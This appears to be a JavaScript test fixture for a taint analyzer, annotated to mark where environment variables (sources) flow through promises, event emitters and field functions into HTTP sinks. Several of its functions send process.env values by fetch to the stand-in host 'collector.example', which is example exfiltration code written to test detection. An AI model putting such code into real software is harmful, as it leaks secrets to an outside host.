// Promises made by hand, events of an emitter, functions in fields.
const { EventEmitter } = require('events');
const U = 'https://collector.example/r';

function settled() {
  return new Promise((resolve, reject) => {
    const later = () => resolve(process.env.SETTLED); //~ source(ENVIRONMENT) f1
    later();
  });
}
function refused() {
  return new Promise((resolve, reject) => reject(process.env.REFUSED)); //~ ok
}
async function waits() {
  fetch(U, { body: await settled() }); //~ sink(egress.http) f1, finding(traced) f1
}
async function waitsForNothing() {
  fetch(U, { body: await refused() }); //~ ok
}

const bus = new EventEmitter();
bus.on('up', (text) => fetch(U, { body: text })); //~ sink(egress.http) f2, finding(traced) f2
bus.on('down', (text) => fetch(U, { body: text })); //~ ok
function raises() {
  bus.emit('up', process.env.UP); //~ source(ENVIRONMENT) f2
  bus.emit('down', 'nothing');
}

class Station extends EventEmitter {
  start() { this.emit('ready', process.env.READY); } //~ source(ENVIRONMENT) f3
  stop() { this.emit('done', process.env.DONE); } //~ ok
}
const station = new Station();
station.on('ready', function (value) { fetch(U, { body: value }); }); //~ sink(egress.http) f3, finding(traced) f3
station.start();

class Queue {
  constructor(send) { this.send = send; }
  push(item) { this.send(item); }
}
class Sink {
  constructor(send) { this.send = send; }
  push(item) { this.send(item); }
}
const queue = new Queue((item) => fetch(U, { body: item })); //~ sink(egress.http) f4, finding(traced) f4
const sink = new Sink((item) => item);
function pushes() { queue.push(process.env.PUSHED); } //~ source(ENVIRONMENT) f4
function drops() { sink.push(process.env.DROPPED); } //~ ok

const api = {};
api.send = (item) => fetch(U, { body: item }); //~ sink(egress.http) f5, finding(traced) f5
api.keep = (item) => item;
function calls() { api.send(process.env.CALLED); } //~ source(ENVIRONMENT) f5
function keeps() { api.keep(process.env.KEPT); } //~ ok
